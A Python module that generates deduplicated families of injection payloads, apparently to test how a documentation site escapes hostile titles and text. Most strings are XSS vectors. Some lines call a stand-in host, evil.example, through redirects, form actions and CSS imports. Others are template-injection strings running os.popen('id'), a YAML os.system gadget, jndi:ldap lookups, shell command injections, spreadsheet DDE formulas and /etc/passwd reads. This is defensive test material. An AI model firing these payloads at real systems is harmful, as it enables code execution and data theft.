"""What a stranger could send so that it runs, leads away, or breaks out of where it stands: families of short texts."""

import itertools
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

TAGS = [
    "a",
    "audio",
    "b",
    "base",
    "body",
    "br",
    "button",
    "canvas",
    "details",
    "div",
    "dialog",
    "embed",
    "form",
    "frameset",
    "iframe",
    "image",
    "img",
    "input",
    "isindex",
    "keygen",
    "link",
    "marquee",
    "math",
    "meta",
    "object",
    "p",
    "picture",
    "portal",
    "script",
    "select",
    "slot",
    "source",
    "style",
    "svg",
    "table",
    "template",
    "textarea",
    "title",
    "track",
    "video",
    "x",
    "xmp",
]
EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "ontoggle",
    "onstart",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onpointerrawupdate",
    "onpointerenter",
    "onbeforetoggle",
    "onscroll",
    "onscrollend",
    "onwheel",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "oncanplay",
    "onloadstart",
    "oncut",
    "onpaste",
    "onauxclick",
    "onbeforematch",
    "oncontentvisibilityautostatechange",
]
MORE_EVENTS = (
    "onabort", "onafterprint", "onanimationcancel", "onanimationiteration", "onbeforecopy", "onbeforecut",
    "onbeforeinput", "onbeforepaste", "onbeforeprint", "onbeforeunload", "onbegin", "onbounce", "oncancel",
    "oncanplaythrough", "onchange", "onclose", "oncommand", "oncontextmenu", "oncopy", "oncuechange",
    "ondblclick", "ondrag", "ondragend", "ondragenter", "ondragleave", "ondragover", "ondragstart", "ondrop",
    "ondurationchange", "onemptied", "onend", "onended", "onfinish", "onfocusin", "onfocusout", "onformdata",
    "onfullscreenchange", "ongotpointercapture", "oninput", "oninvalid", "onkeydown", "onkeypress", "onkeyup",
    "onlanguagechange", "onloadeddata", "onloadedmetadata", "onloadend", "onlostpointercapture",
    "onmessageerror", "onmousedown", "onmouseenter", "onmouseleave", "onmousemove", "onmouseout", "onmouseup",
    "onmousewheel", "onoffline", "ononline", "onpagehide", "onpause", "onplay", "onplaying",
    "onpointercancel", "onpointerdown", "onpointerleave", "onpointermove", "onpointerout", "onpointerover",
    "onpointerup", "onpopstate", "onprogress", "onratechange", "onrejectionhandled", "onrepeat", "onreset",
    "onresize", "onsearch", "onsecuritypolicyviolation", "onseeked", "onseeking", "onselect",
    "onselectionchange", "onselectstart", "onshow", "onslotchange", "onstalled", "onstorage", "onsubmit",
    "onsuspend", "ontimeupdate", "ontouchcancel", "ontouchend", "ontouchmove", "ontouchstart",
    "ontransitioncancel", "ontransitionrun", "ontransitionstart", "onunhandledrejection", "onunload",
    "onvolumechange", "onwaiting", "onwebkitanimationend", "onwebkitmouseforceup",
)  # fmt: skip
# What stands between the name of a tag and its attribute, or within a tag, that one parser or another lets pass.
BETWEEN = ("/", "//", "\t", "\f", " / ", " a=''", ' x="', " a='>' ", "/x=1/", " \u2028")
SINGLE = (
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<form action=//evil.example><button>go</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
    "<input type=image src=x formaction=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=x>",
    "<link rel=stylesheet href=//evil.example>",
    "<link rel=import href=data:text/html,x>",
    "<style>@import url(//evil.example)</style>",
    "<p style='background:url(//evil.example)'>x",
    "<p style=position:fixed;inset:0;z-index:99>x",
    "<img src=//evil.example/pixel>",
    "<img srcset='//evil.example/pixel 1x'>",
    "<video poster=//evil.example><source src=//evil.example>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "<svg><use href=data:image/svg+xml,x />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title='</style><img src onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc=x>",
    "<svg><desc><b><script>alert(1)</script>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><mi//xlink:href=data:x,<script>alert(1)</script>>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- never closed",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!doctype html><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<a id=story href=x>x</a><p name=title>x",
    "<img name=getElementById>",
    "<p class=md-overlay data-md-component=search>x",
    "<a data-pagefind-body data-pagefind-meta=title:x>x",
    "<div data-sharedstory=0></div>",
    '<div data-sharedstory="1"></div>',
    "<p data-md-toggle=search accesskey=x autofocus tabindex=1 contenteditable>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<SCRIPT SRC=//evil.example>",
    "<\u0131mg src=x onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "{ onclick=alert(1) }",
    "{: onclick=alert(1) }",
    "x {: #__search .md-overlay onclick=alert(1) }",
    "# x {: #__search .md-overlay onclick=alert(1) }",
    "{.evil onclick=alert(1)}",
    '--8<-- "mkdocs.yml"',
    ';--8<-- "https://evil.example"',
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include 'mkdocs.yml' %}",
    "{% raw %}{{ 1 }}",
    "{# never closed",
    "${alert(1)} `${alert(1)}` #{alert(1)} <%= 1 %>",
    "%s %(x)s {0} {x} {0.__class__}",
    "[TOC]",
    "*[the]: x",
    "[^1]: <script>alert(1)</script>",
    "!!! note\n    <script>alert(1)</script>",
    "=== 'tab'\n    <script>alert(1)</script>",
    "<!-- sharedstory/latest -->",
    "```html\n<script>alert(1)</script>\n```",
    "~~~ {onclick=alert(1)}\nx",
    "`<img src=x onerror=alert(1)>`",
    "$$\\href{javascript:alert(1)}{x}$$",
    ":material-home: ==x== ^^x^^ ++ctrl++",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("//evil.example")',
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "</script><!--<script>",
    "<!--<script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    "\\\\evil.example",
    "../../../../etc/passwd",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u202e<script>alert(1)</script>",
    "<3 & <b>bold</b> & 'quotes' & \"more\"",
)
CONTEXTS = (
    '">', "'>", '" x="', "' x='", "-->", "--!>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "</template>", "</p></article></main></body>", "</svg>", "</iframe>", "</xmp>", "]]>", "</summary></entry></feed>",
    "</url></urlset>", "`\">", "\\\">", "*/", "\r\n\r\n", "<p>", "<ul><li>", "</a>", "</h1>", "</option></select>",
)  # fmt: skip
LIVE = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "%6aavascript:alert(1)", "javascript%3aalert(1)", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "vbscript:alert(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=", "blob:x", "filesystem:x", "file:///etc/passwd", "jar:x!/", "ms-word:x",
    "intent://x#Intent;end", "tel:1", "sms:1", "ws://evil.example", "//evil.example", "/\\evil.example",
    "\\\\\\\\evil.example", "///evil.example", "https:evil.example", "http:/evil.example", "https:///evil.example",
    "http://good@evil.example", "https://evil.example\\@good.example", "http://[evil", "./javascript:alert(1)",
    "?javascript:alert(1)", "&#x2f;/evil.example", "\u3164javascript:alert(1)", "java\u00adscript:alert(1)",
)  # fmt: skip
# How Markdown and HTML lead somewhere.
WAYS = (
    "[x]({})", "![x]({})", "[x](<{}>)", "<{}>", "[x][y]\n\n[y]: {}", '[x]({} "y\\" onclick=alert(1) ")',
    "![x][y]\n\n[y]: <{}>", "[![x]({})](a.md)", "x[^1]\n\n[^1]: [x]({})", "- [x] [x]({})", "| a |\n|---|\n| [x]({}) |",
    "[x]({}){{: target=_top }}", "> # [x]({})", "<a href='{}'>x</a>", "<a href={}>x", "<img srcset='{} 1x'>",
    "<svg><use xlink:href='{}'/>", "<svg><a><animate attributeName=href values='{}'/><text>x", "<form action='{}'>",
    "<button formaction='{}'>x", "<iframe src='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "<base href='{}'>",
    "<link rel=preload href='{}'>", "<p style='background:url({})'>x", "<style>@import '{}';</style>", "{}",
)  # fmt: skip
# Elements in which a browser reads on in another way, so that what is text in one place is an element in the next.
OTHERWISE_READ = (
    "noscript", "noembed", "noframes", "template", "title", "textarea", "xmp", "iframe", "style", "svg><style",
    "svg><title", "svg><desc", "svg><foreignObject><math", "math><mtext><mglyph", "math><annotation-xml", "select",
    "math><annotation-xml encoding=text/html", "table><caption", "select><option", "form><math><mtext></form><form",
    "svg><p><style", "a><table><a", "frameset", "plaintext", "object", "audio", "canvas", "marquee", "ruby><rtc",
)  # fmt: skip
INNER = (
    "<p id='</{}><img src=x onerror=alert(1)>'>",
    "<!--</{}><img src=x onerror=alert(1)>-->",
    "</{}><svg/onload=alert(1)>",
    "<![CDATA[</{}><script>alert(1)</script>]]>",
)
# Names that a page's scripts, or a browser, ask for.
ASKED_FOR = (
    "config", "document", "location", "body", "head", "forms", "cookie", "children", "attributes", "parentNode",
    "nodeName", "submit", "action", "__md_scope", "__config", "__search", "__drawer", "__palette_0", "pagefind",
    "currentScript", "defaultView", "querySelector", "innerHTML", "alert", "toString", "self", "top", "__proto__",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ self }}", "{{ config.plugins }}", "{{ page.meta }}", "{{ lipsum.__globals__ }}", "{{ macros_info() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ environment }}", "{{ context() }}", "{{ git }}",
    "{{ ''|attr('__class__') }}", "{{ request }}", "{%- for x in range(9**9) %}x{% endfor %}", "{% set x = 1 %}{{ x }}",
    "{% extends 'main.html' %}", "{% import 'main.html' as x %}", "{% macro x() %}", "{% if", "{{", "}}", "{%", "%}", "{#",
    "[[ 7*7 ]]", "[% x %]", "<% x %>", "@{x}", "*{x}", "~{x}", "{{{{ x }}}}", "{{=1}}", "{{constructor.constructor('x')()}}",
)  # fmt: skip
OTHER_LANGUAGES = (
    # YAML
    "*anchor", "&anchor x", "<<: *anchor", "!!python/object/apply:os.system [id]", "!!binary PHNjcmlwdD4=", "!include x.yml",
    "!ENV HOME", "? x", "---\ntitle: x\n---\n", "...\n---\n", "%YAML 1.1\n---", "x: y: z", "- - - x", "| x", "> x", "{a: b}",
    "[a, b", "# x", " #x", "0o17", "1_000", "1:30", "~~~", "nil", ".inf", "@x: y", "`x`: y", "\"x\": 'y'", "on: off",
    # Calendars, lists of contacts, letters
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT", "x\nATTACH;VALUE=URI://evil.example", "x\\nURL:javascript:alert(1)",
    "x;ALTREP=\"//evil.example\":x", "x\r\nBcc: a@evil.example", "x\nSubject: x\n\nx", "END:VCALENDAR", "x\n X-A:x\n",
    # Tables of other programs
    ";=1+1", ",=1+1", "\t=1+1", "\"\t=1+1", "\n=1+1", "\u00a0=1+1", "\uff1d1+1", "+1+1", "-1-1", "@x()", "'=1+1", "\"=1+1",
    "=IMPORTXML(\"//evil.example\")", "=WEBSERVICE(\"//evil.example\")", "%0A=1+1", "|calc", "\ufeff=1+1", "DDE (\"cmd\")",
    # JSON and scripts
    "\"},{\"@type\":\"Person\"}", "\"}</script><b onclick=alert(1)>", "\u2028alert(1)//", "\u2029alert(1)//", "*/alert(1)/*",
    "\\\"};alert(1)//", "`;alert(1)//", "-->alert(1)", "</SCRIPT ><b onclick=alert(1)>", "</script/x><b onclick=alert(1)>",
    "{\"__proto__\":{\"x\":1}}", "\\ud800", "\\\\u003c/script>", "<\\/script><script>alert(1)<\\/script>",
    # XML and feeds
    "&xxe;", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "<?xml-stylesheet href='//evil.example'?>", "<x:include href='/etc/passwd'/>",
    "</title></entry><entry>", "<link rel='alternate' href='javascript:alert(1)'/>", "<content type='html'>&lt;script&gt;",
    "]]]]><![CDATA[>", "&#0;", "&#x1F;", "&#xD800;", "&#xFFFF;", "&bogus;", "&amp", "&", "&&lt;script&&gt;",
    # Styles and cards
    "x:expression(alert(1))", "-moz-binding:url(//evil.example)", "behavior:url(//evil.example)", "}</style><p>x",
    "}*{background:url(//evil.example)}", "@import//evil.example;", "\\3c script\\3e", "/*", "<!ENTITY % x '//evil.example'>",
    "<text onclick='alert(1)'>", "<image href='//evil.example'/>", "url(#x)", "</text></svg><script>alert(1)</script>",
    # Crawlers and servers
    "x\nDisallow: /", "x\nSitemap: //evil.example", "x\r\nLocation: //evil.example", "<!--#include virtual='/etc/passwd'-->",
    "<?php echo 1 ?>", "${jndi:ldap://evil.example}", "$(id)", "`id`", "; id", "| id", "%00", "..%2f..%2f", "C:\\x", "~/x",
    # Terminals and workflows
    "::set-output name=x::y", "##[command]x", "::stop-commands::x", "@everyone", "#1", "GH-1", "x\n::error::x",
)  # fmt: skip
UNSEEN = (
    "\u200b", "\u200c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u2060", "\u2066", "\u2067", "\u2068",
    "\u2069", "\ufeff", "\u00ad", "\u034f", "\u061c", "\u115f", "\u17b4", "\u180e", "\u2800", "\u3164", "\ufe0f",
    "\U000e0041", "\ufff9", "\ufffc",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once, none longer than a title may be."""
    return [text for text in dict.fromkeys(_all()) if len(text.strip()) >= 2 and len(text) <= 120]


def _all() -> Iterator[str]:
    yield from SINGLE
    for number, tag in enumerate(TAGS):
        for event in (EVENTS[number % len(EVENTS)], EVENTS[(number + 9) % len(EVENTS)]):
            yield f"<{tag} {event}=alert(1)>x</{tag}>"
    for event in (*EVENTS, *MORE_EVENTS):
        yield f"<b {event}=alert(1) tabindex=1>x"
        yield f'" {event}=alert(1) autofocus a="'
        yield f"' {event}='alert(1)"
    for between, tag in itertools.product(BETWEEN, ("svg", "img", "body", "details open")):
        yield f"<{tag}{between}src=x {EVENTS[len(tag)]}=alert(1)>"
        yield f"<{tag}{between}onload=alert(1)//"
    for context, live in itertools.product(CONTEXTS, LIVE):
        yield context + live
    for live in (*LIVE, "<svg/onload=alert(1)>", '"><b onclick=alert(1)>', "</script><b onclick=alert(1)>"):
        yield live
        yield live.upper()
        yield escape(live)
        yield escape(escape(live))
        yield "".join(f"&#{ord(letter)};" if letter in "<>\"'=()" else letter for letter in live)
        yield "".join(f"&#x{ord(letter):x}" if letter in "<>\"'" else letter for letter in live)
        yield "".join(f"&#{ord(letter):07}" if letter in "<>\"'" else letter for letter in live)
        yield live.replace("<", "&lt").replace(">", "&gt")
        yield live.replace("<", "&LT;").replace(">", "&GT;").replace('"', "&QUOT;")
        yield quote(live)
        yield quote(quote(live))
        yield live.replace("<", "\\<")
        yield f"*{live}*"
        yield f"> {live}"
        yield f"- {live}"
        yield f"| a |\n|---|\n| {live} |"
        yield f"{live[:3]}\u200d{live[3:]}"
        yield live.replace("<", "\u2039").replace(">", "\u203a")
    for scheme, way in itertools.product(SCHEMES, WAYS):
        yield way.format(scheme)
    for outer, inner in itertools.product(OTHERWISE_READ, INNER):
        yield f"<{outer}>" + inner.format(outer.rpartition("<")[2].split()[0])
    for name in ASKED_FOR:
        yield f"<a id={name} href=cid:alert(1)>x</a>"
        yield f"<form name={name}><input name={name}></form>"
        yield f"[x](a.md){{: #{name} .{name} name={name} }}"
        yield f"# {name} {{#{name}}}"
    yield from TEMPLATES
    yield from OTHER_LANGUAGES
    for sign, live in itertools.product(UNSEEN, LIVE):
        yield f"x{sign}{live}"
        yield live.replace("<", f"<{sign}")
